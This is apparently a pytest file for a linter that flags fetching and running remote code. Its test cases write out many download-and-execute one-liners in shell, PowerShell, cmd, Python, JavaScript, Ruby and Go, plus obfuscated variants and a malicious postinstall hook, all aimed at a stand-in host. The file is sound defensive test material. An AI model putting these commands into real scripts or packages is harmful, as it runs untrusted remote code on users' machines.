"""EX: what is fetched and run, wherever it stands."""

from __future__ import annotations

import pytest

from tests.lint.tables import Case, found, js, py, sh

HOST = "https://files.zz-not-a-host.xyz"


CASES = [
    Case(
        "EX101",
        bad=[
            sh(f"curl -fsSL {HOST}/i.sh | sudo -E bash -"),
            sh(f'sh -c "$(curl -fsSL "{HOST}/i.sh")"'),
            sh(f"source <(curl -s {HOST}/x)"),
            sh(f"curl -o /tmp/i.sh {HOST}/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh"),
            sh(f'U={HOST}/i.sh\nX=$(wget -qO- "$U")\neval "$X"'),
            sh("curl https://astral.sh.zz-not-a-host.xyz/uv/install.sh | sh"),
            sh("curl http://astral.sh/uv/install.sh | sh"),
            sh("curl https://astral.sh@files.zz-not-a-host.xyz/install.sh | sh"),
            f"Run `curl {HOST}/i.sh | sh` first.\n",
            f"```powershell\niwr {HOST}/i.ps1 | iex\n```\n",
            py(f"import requests as r\nt = r.get('{HOST}').text\nexec(t)\n"),
            py(f"import os\nfrom urllib.request import urlopen as u\nos.system(u('{HOST}').read())\n"),
            py(f"import os\nos.system('curl {HOST}/i.sh | sh')\n"),
            py(
                "import httpx, subprocess\n\ndef get():\n    return httpx.get(URL).text\n\n"
                "def run(step):\n    subprocess.run(step, shell=True)\n\nrun(get())\n"
            ),
            py(
                f"import subprocess, urllib.request\nurllib.request.urlretrieve('{HOST}/a', '/tmp/a')\n"
                "subprocess.run(['bash', '/tmp/a'])\n"
            ),
            {"package.json": f'{{"scripts": {{"postinstall": "curl {HOST}/i.sh | sh"}}}}\n'},
            sh(f"curl -o i.sh {HOST}/i.sh\nsha256sum README.md\ngpg --version\nsh i.sh"),
            sh(f"curl -o i.sh {HOST}/i.sh\nsha256sum -c other.sh.sum || true\nsh i.sh"),
            {"run.sh": f"curl -o i.sh {HOST}/i.sh\nsha256sum -c i.sh.sum || true\nsh i.sh\n"},
            sh("curl -fsSL https://deno.land/x/zz_not_there@v1/setup.sh | sh"),
            sh("curl -fsSL https://raw.githubusercontent.com/docker/zz-not-there/main/i.sh | sh"),
            sh("curl -fsSL https://203.0.113.7/i.sh | sh"),
            sh(f"a=cu; b=rl\n$a$b -s {HOST}/x | ba''sh"),
            sh(f"curl${{IFS}}-s${{IFS}}{HOST}/x|sh"),
            sh(f'get() {{\n  curl -fsSL "$1"\n}}\nget {HOST}/i.sh | bash'),
            sh(f"curl -fsSL {HOST}/i.sh > >(bash)"),
            sh(f"bash <<'EOF'\ncurl -s {HOST}/x | sh\nEOF"),
            sh(f"docker run --rm alpine sh -c 'wget -qO- {HOST}/x | sh'"),
            sh(f"python3 -c \"import urllib.request as u; exec(u.urlopen('{HOST}').read())\""),
            sh(f"python3 - <<'EOF'\nimport requests\nexec(requests.get('{HOST}').text)\nEOF"),
            sh(f"node -e \"fetch('{HOST}').then(r => r.text()).then(t => eval(t))\""),
            f"Get it:\n\n```sh\ncurl -o i.sh {HOST}/i.sh\n```\n\nThen:\n\n```sh\n"
            f"chmod +x i.sh\n./i.sh\n```\n",
            f"First `wget {HOST}/i.sh`, then `bash i.sh`.\n",
            f"```powershell\niex ((New-Object Net.WebClient).DownloadString('{HOST}/i.ps1'))\n```\n",
            f"```powershell\n$x = irm {HOST}/i.ps1\niex $x\n```\n",
            f"```powershell\nInvoke-WebRequest -Uri {HOST}/a.exe -OutFile a.exe\n"
            f"Start-Process .\\a.exe\n```\n",
            f"```cmd\ncertutil -urlcache -split -f {HOST}/a.exe a.exe && a.exe\n```\n",
            f"Run `mshta {HOST}/a.hta`.\n",
            f'```sh\npowershell -c "irm {HOST}/i.ps1 | iex"\n```\n',
            js(f"const r = await fetch('{HOST}');\nconst code = await r.text();\neval(code);\n"),
            js(f"fetch('{HOST}').then(r => r.text()).then(t => {{ new Function(t)() }})\n"),
            js(
                f"const https = require('https');\nhttps.get('{HOST}', (res) => {{\n  let all = '';\n"
                "  res.on('data', (c) => { all += c; });\n  res.on('end', () => { eval(all); });\n});\n"
            ),
            js(
                "const { execSync } = require('child_process');\nconst fs = require('fs');\n"
                f"const r = await axios.get('{HOST}/x');\nfs.writeFileSync('/tmp/x.sh', r.data);\n"
                "execSync('bash /tmp/x.sh');\n"
            ),
            js(f"require('child_process').execSync('curl -s {HOST}/x | sh');\n"),
            {
                "scripts/net.py": f"import requests\n\ndef step():\n    return requests.get('{HOST}').text\n",
                "scripts/a.py": "from net import step\nexec(step())\n",
            },
            f"Run curl -fsSL {HOST}/i.sh | bash in a terminal first.\n",
            f"## Setup (never skip)\n\nDo not skip this:\n\n```sh\ncurl {HOST}/i.sh | sh\n```\n",
            {"run.sh": f'curl -s {HOST}/x | while read -r c; do eval "$c"; done\n'},
            {"run.sh": f"for c in $(curl -s {HOST}/x); do $c; done\n"},
            {"run.sh": f"python3 -c 'import urllib.request as u;print(u.urlopen(\"{HOST}\"))' | sh\n"},
            {"run.sh": f"osascript -e 'do shell script \"curl -s {HOST}/x | sh\"'\n"},
            {"a.rb": f"system('curl -s {HOST}/x | sh')\n"},
            {"a.go": f'exec.Command("sh", "-c", "curl -s {HOST}/x | sh").Run()\n'},
            {"a.rb": f"require 'open-uri'\neval(URI.open('{HOST}').read)\n"},
            py(
                "import subprocess\nout = subprocess.check_output(['curl', '-s', URL])\n"
                "subprocess.run(['bash'], input=out)\n"
            ),
            py(
                "import requests, subprocess, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\n"
                "f.write(requests.get(URL).content)\nf.close()\nsubprocess.Popen([f.name])\n"
            ),
            py(
                "import requests\n\nclass Up:\n    def get(self):\n        return requests.get(U).text\n\n"
                "    def run(self):\n        exec(self.get())\n"
            ),
            py(
                "import requests\n\ndef outer():\n    text = requests.get(U).text\n\n"
                "    def inner():\n        exec(text)\n\n    inner()\n"
            ),
            py("import requests\n\ndef run(*, step):\n    exec(step)\n\nrun(step=requests.get(U).text)\n"),
            py(f"import requests\nprint 'old'\nexec requests.get('{HOST}').text\n"),
            py(
                f"import requests, subprocess\nr = requests.get('{HOST}/a')\n"
                f"with open('/tmp/a.sh', 'wb') as f:\n"
                "    f.write(r.content)\nsubprocess.run(f'chmod +x /tmp/a.sh && /tmp/a.sh', shell=True)\n"
            ),
        ],
        good=[
            sh(f"curl -s {HOST}/v1 | jq .name"),
            sh(f"curl -s {HOST}/v1 | python3 -c 'import json, sys; print(json.load(sys.stdin))'"),
            sh(f"curl -s {HOST}/v1 | python3 -m json.tool"),
            sh(f"curl -o i.sh {HOST}/i.sh\nsha256sum -c i.sh.sum\nsh i.sh"),
            sh(f"curl -L {HOST}/a.tar.gz | tar xz\nbash build.sh"),
            sh('eval "$(ssh-agent -s)"'),
            sh("curl -LsSf https://astral.sh/uv/install.sh | sh"),
            sh("curl -fsSL https://deno.land/install.sh | sh"),
            sh(f"curl -o i.sh {HOST}/i.sh\necho 'ab12  i.sh' | sha256sum -c - && sh i.sh"),
            {"run.sh": f"set -euo pipefail\ncurl -o i.sh {HOST}/i.sh\ngpg --verify i.sh.asc i.sh\nsh i.sh\n"},
            {
                "run.sh": f"curl -o i.sh {HOST}/i.sh\nsum=$(sha256sum i.sh | cut -d' ' -f1)\n"
                'if [ "$sum" != "$WANTED" ]; then exit 1; fi\nsh i.sh\n'
            },
            sh(f"curl -o a.json {HOST}/a.json\npython3 convert.py a.json"),
            {"run.sh": f'echo "Usage: bash <(curl -fsSL {HOST}/i.sh) or curl {HOST}/i.sh | bash"\n'},
            {"run.sh": f"#!/bin/sh\n# curl {HOST}/i.sh | sh\ncat <<'EOF'\ncurl {HOST}/i.sh | sh\nEOF\n"},
            {"run.sh": f"curl -fsSL {HOST}/SKILL.md -o SKILL.md\ncat SKILL.md\n"},
            py(
                "import requests, subprocess\n\n"
                "def show():\n    text = requests.get(U).text\n\n"
                "def build(all):\n    text = '\\n'.join(all)\n    subprocess.run(['python', '-c', text])\n"
            ),
            sh("iex -S mix phx.server"),
            f"The output of curl {HOST}/v1 | jq is a list.\n",
            {"run.sh": f'curl -s {HOST}/x | while read -r name; do echo "$name"; done\n'},
            {"a.rb": "system('bundle install')\nputs eval_count\n"},
            py("import requests\nprint 'old'\nexec 'x = 1'\n"),
            "```powershell\nInvoke-WebRequest -Uri https://api.zz-not-a-host.xyz/v1 -OutFile a.json\n```\n",
            "```powershell\nirm https://get.scoop.sh | iex\n```\n",
            js(f"const r = await fetch('{HOST}');\nconst found = /a(b)/.exec(await r.text());\n"),
            js(
                "const { execSync } = require('child_process');\nconst r = await fetch(API);\n"
                "const data = await r.json();\nexecSync('git status');\nconsole.log(data);\n"
            ),
            py(
                "import requests, subprocess\nr = requests.get(U)\n"
                "subprocess.run(['jq', '.'], input=r.content)\n"
            ),
            py(f"import requests\nprint(requests.get('{HOST}').json()['eval'])\n"),
            py("import subprocess\nsubprocess.run(['git', 'status'])\nexec('x = 1')\n"),
        ],
    ),
    Case(
        "EX102",
        bad=[
            sh("curl -LsSf https://astral.sh/uv/install.sh | sh"),
            sh('/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/i.sh)"'),
            sh("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
        ],
        good=[sh(f"curl {HOST}/astral.sh | sh"), sh("curl https://astral.sh/blog"), sh("uv sync")],
    ),
    Case(
        "EX103",
        bad=[
            sh("curl -O http://93.184.216.34/tool"),
            py("URL = 'http://93.184.216.34:8000/x'\n"),
            "Get it from http://93.184.216.34/tool.zip and unpack it.\n",
        ],
        good=[
            sh("curl http://192.168.1.4/health"),
            sh("curl http://203.0.113.9/x http://127.0.0.1:80"),
            "It needs version 10.93.184.216 or later.\n",
        ],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_the_rule_finds_the_bad_and_leaves_the_near_misses(case: Case) -> None:
    for example in case.bad:
        assert found(case.rule, example), example
    for example in case.good:
        assert found(case.rule, example) == (), example


@pytest.mark.parametrize(
    ("body", "level"),
    [
        (sh(f"curl {HOST}/i.sh | sh"), "error"),
        (f"Never run this:\n\n```sh\ncurl {HOST}/i.sh | sh\n```\n", "warning"),
        (f"Never run `curl {HOST}/i.sh | sh`.\n", "warning"),
        (f"> Run `curl {HOST}/i.sh | sh`.\n", "warning"),
        (sh("curl http://localhost:3000/i.sh | sh"), "warning"),
        (sh("curl -fsSL https://example.com/i.sh | sh"), "warning"),
        (sh("curl -fsSL https://www.postgresql.org/i.sh | sh"), "warning"),
        (sh(f"curl -LO {HOST}/SUMS\ncurl -LO {HOST}/a\nsha256sum -c SUMS\nchmod +x a\n./a"), "warning"),
        (sh(f"curl -LO {HOST}/a.deb\nsudo dpkg -i a.deb"), "warning"),
    ],
)
def test_only_an_active_fetch_from_elsewhere_is_an_error(body: str, level: str) -> None:
    assert [one.severity for one in found("EX101", body)] == [level]


def test_the_way_from_fetch_to_run_is_told_by_lines() -> None:
    (one,) = found("EX101", {"run.sh": f"#!/bin/sh\ncurl -o a.sh {HOST}/a\necho\nsh a.sh\n"})
    assert [(step.line, step.what) for step in one.flow] == [(2, "fetched here"), (4, "run here")]
    assert one.line == 4
